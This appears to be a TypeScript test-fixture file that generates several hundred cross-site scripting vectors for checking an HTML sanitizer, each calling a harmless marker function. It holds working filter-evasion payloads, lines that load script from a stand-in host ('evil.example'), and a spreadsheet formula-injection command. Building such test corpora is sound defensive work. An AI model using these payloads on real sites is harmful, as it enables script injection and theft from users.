const CALL = 'scriptRan(1)';

/**
 * Texts that run a script where a page takes them for HTML, an address, an attribute, a template or a script: elements
 * that can run one, each with the handlers that fire by themselves, addresses with schemes that run, hidden in every way
 * that parsers forgive, ways out of attributes, comments and raw texts, and documents that change when they are parsed
 * twice. Sources: HTML Living Standard (event handlers, URL parsing, raw text elements), OWASP XSS Filter Evasion.
 * Each calls `scriptRan`; more than 500, each different.
 */
export const SCRIPT_VECTORS: readonly string[] = [
  ...new Set([...elements(), ...addresses(), ...waysOut(), ...parsedTwice(), ...scripts()]),
];

/** Elements with a handler that fires without anybody touching them. */
function elements(): string[] {
  const firing = [
    ['img src=x', 'onerror'],
    ['img src=x srcset=x', 'onerror'],
    ['image src=x', 'onerror'],
    ['svg', 'onload'],
    ['svg><image href=x', 'onerror'],
    ['svg><animate attributeName=x dur=1s', 'onbegin'],
    ['svg><animate attributeName=x dur=1ms', 'onend'],
    ['svg><set attributeName=x dur=1ms', 'onbegin'],
    ['svg><style', 'onload'],
    ['body', 'onload'],
    ['body', 'onpageshow'],
    ['body', 'onfocus'],
    ['body', 'onresize'],
    ['iframe', 'onload'],
    ['iframe src=about:blank', 'onload'],
    ['style', 'onload'],
    ['link rel=stylesheet href=x', 'onerror'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['button autofocus', 'onfocus'],
    ['a tabindex=1 autofocus href=#', 'onfocus'],
    ['div tabindex=1 autofocus', 'onfocus'],
    ['audio src=x', 'onerror'],
    ['video src=x', 'onerror'],
    ['video><source', 'onerror'],
    ['details open', 'ontoggle'],
    ['dialog open', 'oncancel'],
    ['object data=x', 'onerror'],
    ['embed src=x', 'onerror'],
    ['marquee', 'onstart'],
    ['marquee loop=1 width=0', 'onfinish'],
    ['div style="animation:spin 1s"', 'onanimationstart'],
    ['div style="transition:color 1s;color:red"', 'ontransitionend'],
    ['div style="content-visibility:auto"', 'oncontentvisibilityautostatechange'],
    ['div popover', 'onbeforetoggle'],
    ['xss contenteditable autofocus', 'onfocus'],
    ['form><input type=image src=x', 'onerror'],
  ] as const;
  return firing.flatMap(([element, handler]) => [
    `<${element} ${handler}=${CALL}>`,
    `<${element} ${handler}="${CALL}">`,
    `<${element} ${handler}='${CALL}'//`,
    `<${element.toUpperCase()} ${handler.toUpperCase()}=\`${CALL}\`>`,
    `<${element}/${handler}\t=\n"${CALL}"/>`,
    `<${element} ${handler}=&#115;criptRan&lpar;1&rpar;>`,
    `"><${element} ${handler}=${CALL}>`,
    `'/><${element} ${handler}=${CALL}><!--`,
    `\0<${element}\f${handler}=${CALL}>`,
  ]);
}

/** Addresses with a scheme that runs, alone and where elements take one. */
function addresses(): string[] {
  const running = [
    `javascript:${CALL}`,
    `JaVaScRiPt:${CALL}`,
    `java\tscript:${CALL}`,
    `java\nscript:${CALL}`,
    `java\rscript:${CALL}`,
    `\u0001javascript:${CALL}`,
    ` \u000ejavascript:${CALL}`,
    `javascript\t:${CALL}`,
    `javascript:/*--></title></style></textarea></script>*/${CALL}`,
    `javascript://%0a${CALL}`,
    `javascript://maincrop.example/%0d%0a${CALL}`,
    `javascript:void(${CALL})`,
    `javascript:eval(atob('c2NyaXB0UmFuKDEp'))`,
    `javascript&colon;${CALL}`,
    `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CALL}`,
    `&#x6a;avascript:${CALL}`,
    `java&Tab;script:${CALL}`,
    `java&NewLine;script:${CALL}`,
    `vbscript:${CALL}`,
    `livescript:${CALL}`,
    `data:text/html,<script>${CALL}</script>`,
    `data:text/html;base64,PHNjcmlwdD5zY3JpcHRSYW4oMSk8L3NjcmlwdD4=`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
    `blob:javascript:${CALL}`,
    `view-source:javascript:${CALL}`,
    `feed:javascript:${CALL}`,
    `//evil.example/x.js`,
    String.raw`/\evil.example`,
    String.raw`\\evil.example`,
    `https:evil.example`,
  ];
  return running.flatMap((address) => [
    address,
    `<a href="${address}">x</a>`,
    `<iframe src="${address}"></iframe>`,
    `[x](${address})`,
    `<form action="${address}"><button>x</button></form>`,
  ]);
}

/** Ways out of where a text stands: attributes, comments, raw texts, scripts, templates, styles. */
function waysOut(): string[] {
  const begins = [
    '"',
    "'",
    '`',
    '">',
    "'>",
    '-->',
    '--!>',
    ']]>',
    '</script>',
    '</style>',
    '</title>',
    '</textarea>',
    '</noscript>',
    '</template>',
    '</xmp>',
    '</select>',
    '</svg>',
    '\\"',
    "\\'",
    '</a>',
    '<!--',
    '<![CDATA[',
    '%22%3E',
    '\u2028',
  ];
  const runs = [
    `<script>${CALL}</script>`,
    `<img src=x onerror=${CALL}>`,
    `;${CALL};//`,
    ` autofocus onfocus=${CALL} x="`,
    `\${${CALL}}`,
    `{{constructor.constructor('${CALL}')()}}`,
  ];
  return begins.flatMap((begin) => runs.map((run) => begin + run));
}

/** Documents that are another once a browser has repaired them (mutation). */
function parsedTwice(): string[] {
  const inside = `<img src=1 onerror=${CALL}>`;
  return [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${escaped(inside)}">`,
    `<math><mtext><table><mglyph><style><math><img src=1 onerror=${CALL}></style>`,
    `<svg></p><style><a id="</style>${inside}">`,
    `<svg><p><style><g title="</style>${inside}">`,
    `<noscript><p title="</noscript>${inside}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${inside}`,
    `<select><style></select>${inside}</style>`,
    `<template><style></template>${inside}</style>`,
    `<xmp><p title="</xmp>${inside}">`,
    `<textarea><p title="</textarea>${inside}">`,
    `<title><p title="</title>${inside}">`,
    `<iframe><p title="</iframe>${inside}">`,
    `<svg><foreignObject><p><style><p title="</style>${inside}">`,
    `<table><tr><td><svg><desc><style></table>${inside}`,
    `<a href="x"><svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg></a>`,
    `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x"/></svg>`,
    `${'<div>'.repeat(600)}${inside}`,
  ];
}

/** Elements that are scripts, load one, or change what the page loads. */
function scripts(): string[] {
  return [
    `<script>${CALL}</script>`,
    `<SCRIPT>${CALL}</SCRIPT>`,
    `<script\n>${CALL}</script\n>`,
    `<script/x>${CALL}</script>`,
    `<<script>${CALL}//<</script>`,
    `<scr<script>ipt>${CALL}</scr</script>ipt>`,
    `<script src=//evil.example/x.js></script>`,
    `<script src="data:text/javascript,${CALL}"></script>`,
    `<script type=module>${CALL}</script>`,
    `<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>`,
    `<svg><script>${CALL}</script></svg>`,
    `<svg><script>&#115;criptRan(1)</script></svg>`,
    `<math><script>${CALL}</script></math>`,
    `<base href="//evil.example/">`,
    `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
    `<meta http-equiv="content-security-policy" content="script-src 'unsafe-inline'">`,
    `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
    `<link rel=modulepreload href=//evil.example/x.js>`,
    `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
    `<iframe srcdoc='<img src=x onerror=parent.${CALL}>'></iframe>`,
    `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>">`,
    `<style>@import 'javascript:${CALL}';</style>`,
    `<div style="background:url(javascript:${CALL})">`,
    `<div style="width:expression(${CALL})">`,
    `<xml><![CDATA[<script>${CALL}</script>]]></xml>`,
    `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
    `\u00bcscript\u00be${CALL}\u00bc/script\u00be`,
    `＜script＞${CALL}＜/script＞`,
    `=cmd|' /C calc'!A0`,
  ];
}

function escaped(html: string): string {
  return html.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
}
